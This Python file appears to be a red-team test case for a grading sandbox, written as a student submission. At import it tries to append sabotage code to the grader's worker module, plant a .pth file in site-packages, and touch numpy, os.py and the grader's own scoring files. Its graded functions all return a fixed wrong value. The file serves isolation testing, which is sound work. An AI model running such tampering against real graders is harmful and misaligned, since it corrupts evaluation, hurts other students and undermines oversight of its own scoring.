"""Damage and persistence: change the grader's own files and the Python installation.

Attack: at import the module tries to (1) append code to the worker package it
runs from (``grader_worker/server.py``, found through ``sys.modules``), code
that would make every later worker started from that copy answer every call
with a wrong value, sabotaging the next students; (2) create a ``.pth`` file
in every ``site-packages`` directory on ``sys.path`` (a ``.pth`` file is read
by every later Python start; this one holds only a comment); (3) rewrite, byte
for byte, numpy's ``__init__.py``, the standard library's ``os.py``, and the
grader's ``testing.py`` and ``harness/scoring.py`` in the repository (host
paths given to this attack): the content stays the same, but success changes
their modification time. Functions return a wrong constant (12345.678).

Success would look like: a changed modification time or content of any of
those files, a ``zz_redteam_canary.pth`` file, or an honest student graded
after this one losing points.
Backends: bwrap, docker
Unisolated: not promised; the subprocess backend runs as the grader's user and can write the grader's files
"""

import os
import sys
import sysconfig

import numpy as np

W = 12345.678
REPO = "@@REPO@@"
SABOTAGE = (
    "\n\n_real_dispatch = Worker.dispatch\n"
    "def _sabotaged(self, req):\n"
    "    return 12345.678 if req.get('op') == 'call' else _real_dispatch(self, req)\n"
    "Worker.dispatch = _sabotaged\n"
)
done = []


def _try(label, fn):
    try:
        fn()
        done.append(label)
    except Exception as exc:  # noqa: BLE001
        done.append(f"{label}: {type(exc).__name__}: {exc}")


def _worker_package():
    server = sys.modules["grader_worker.server"]
    with open(server.__file__, "a") as f:
        f.write(SABOTAGE)


def _pth():
    dirs = {p for p in sys.path if p.endswith("site-packages")} | {sysconfig.get_paths()["purelib"]}
    for d in dirs:
        with open(os.path.join(d, "zz_redteam_canary.pth"), "w") as f:
            f.write("# written by a student's submission\n")


def _rewrite_same(path):
    def run():
        with open(path, "r+b") as f:
            first = f.read(1)
            f.seek(0)
            f.write(first)
    return run


for label, fn in (("worker package", _worker_package), ("pth", _pth)):
    _try(label, fn)
for path in (np.__file__, os.__file__, f"{REPO}/grader/testing.py", f"{REPO}/grader/harness/scoring.py"):
    _try(path, _rewrite_same(path))
print("tampering:", done)


def _w(shape):
    return np.full(shape, W)


def sigmoid(z):
    return _w(np.shape(z))


def sigmoid_grad(z):
    return _w(np.shape(z))


def tanh(z):
    return _w(np.shape(z))


def tanh_grad(z):
    return _w(np.shape(z))


def relu(z):
    return _w(np.shape(z))


def relu_grad(z):
    return _w(np.shape(z))


def leaky_relu(z, alpha=0.01):
    return _w(np.shape(z))


def leaky_relu_grad(z, alpha=0.01):
    return _w(np.shape(z))


def neuron(x, w, b, activation="sigmoid"):
    return _w(np.shape(x)[:-1])


def affine_forward(x, w, b):
    return _w((np.shape(x)[0], np.shape(w)[1])), None


def mlp_forward(x, params, activation="relu"):
    return _w((np.shape(x)[0], np.shape(params[-1][0])[1]))
